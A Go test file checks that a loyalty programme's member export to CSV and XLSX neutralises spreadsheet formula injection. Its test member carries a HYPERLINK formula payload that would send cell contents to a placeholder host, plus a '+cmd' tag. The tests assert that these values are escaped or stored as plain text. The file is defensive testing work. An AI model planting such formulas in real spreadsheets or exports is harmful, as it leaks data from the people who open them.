package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"kopilka/internal/loyalty/member"
	"kopilka/internal/loyalty/segment"
	"kopilka/internal/loyalty/segment/export"
	"kopilka/internal/platform/clock"
	"kopilka/internal/platform/db"
	"kopilka/internal/platform/db/dbtest"
	"kopilka/internal/platform/i18n"
	"kopilka/internal/platform/id"
)

func TestMain(m *testing.M) { dbtest.Main(m) }

// formula is what somebody writes who wants it to run where the list is opened.
const formula = `=HYPERLINK("http://example.org?"&A1,"ok")`

func open(t *testing.T, d *db.DB) *export.Export {
	t.Helper()
	texts, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	zone := time.FixedZone("", 3*60*60)
	at := time.Date(2026, 2, 20, 22, 30, 0, 0, time.UTC)
	fixed, ids := clock.NewFixed(at), id.NewMaker(1)
	rules := member.DefaultRules()
	rules.Mandatory = nil
	people := &member.Members{DB: d, IDs: ids, Clock: fixed}
	m, err := people.Register(t.Context(), rules, member.Registration{
		Profile:     member.Profile{Surname: "Королёва", Name: "Анна", Sex: "female", BirthDate: "1985-12-31", Comment: formula},
		Identifiers: []member.NewIdentifier{{Kind: member.Phone, Value: "+79160000001"}},
		Tags:        []string{"+cmd", "кофе"},
	}, member.Actor{Kind: member.BySystem, Source: "test"})
	if err != nil {
		t.Fatal(err)
	}
	_, err = d.Exec(t.Context(), `insert into member_figure (home_id, programme_id, level, active, pending, earned, spent, purchases, turnover, average, first_purchase_at, last_purchase_at,
 visits, refunds, tickets, orders, orders_unpaid, consents, city_folded, given_folded) values ($1, 1, '7', 105050, 0, 0, 0, 3, 100001, 33333, $2, $2, 0, 0, 0, 0, 0, 5, '', $3)`, m.Home, clock.Of(at), []byte("анна королева"))
	if err != nil {
		t.Fatal(err)
	}
	return &export.Export{
		Lists: &segment.Lists{DB: d, IDs: ids, Clock: fixed, Zone: func() *time.Location { return zone }}, Zone: zone, Texts: texts, Lang: i18n.RU,
		Name: func(f *segment.Field, v string) string {
			if f.Code == "level" && v == "7" {
				return "Золотой"
			}
			return ""
		},
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := open(t, d)
		var out bytes.Buffer
		if err := e.CSV(t.Context(), &out, segment.Query{}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := [][]string{
			{
				"Телефон", "ФИО", "Пол", "Дата рождения", "E-mail", "Комментарий", "Дата регистрации", "Номер карты", "Доступно бонусов", "Количество покупок", "Средний чек",
				"Последняя покупка", "Сумма покупок",
			},
			{"+79160000001", "Королёва Анна", "женский", "1985-12-31", "", "'" + formula, "2026-02-21 01:30", "", "1050.50", "3", "333.33", "2026-02-21 01:30", "1000.01"},
		}
		if diff := cmp.Diff(want, rows); diff != "" {
			t.Error(diff)
		}
	})
}

func TestXLSX(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := open(t, d)
		var out bytes.Buffer
		q := segment.Query{Columns: []string{"comment", "birth_date", "active", "purchases", "last_purchase", "level", "tags", "consents", "age", "household", "first_purchase"}}
		if err := e.XLSX(t.Context(), &out, q); err != nil {
			t.Fatal(err)
		}
		book, err := excelize.OpenReader(&out)
		if err != nil {
			t.Fatal(err)
		}
		sheet := book.GetSheetName(0)
		shown, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		want := []string{
			formula, "31.12.1985", "1050.50", "3", "21.02.2026 01:30", "Золотой", "+cmd, кофе", "правила программы, реклама по SMS", "40", "нет", "21.02.2026 01:30",
		}
		if diff := cmp.Diff(want, shown[1]); diff != "" {
			t.Error(diff)
		}
		raw, err := book.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if raw[1][2] != "1050.5" || raw[1][1] != "31412" {
			t.Errorf("%q: money and days are to be numbers", raw[1])
		}
		for _, at := range []string{"A2", "G2"} {
			f, err := book.GetCellFormula(sheet, at)
			kind, err2 := book.GetCellType(sheet, at)
			if err != nil || err2 != nil || f != "" || kind == excelize.CellTypeFormula {
				t.Errorf("%s is a formula: %q, %v %v %v", at, f, kind, err, err2)
			}
		}
	})
}
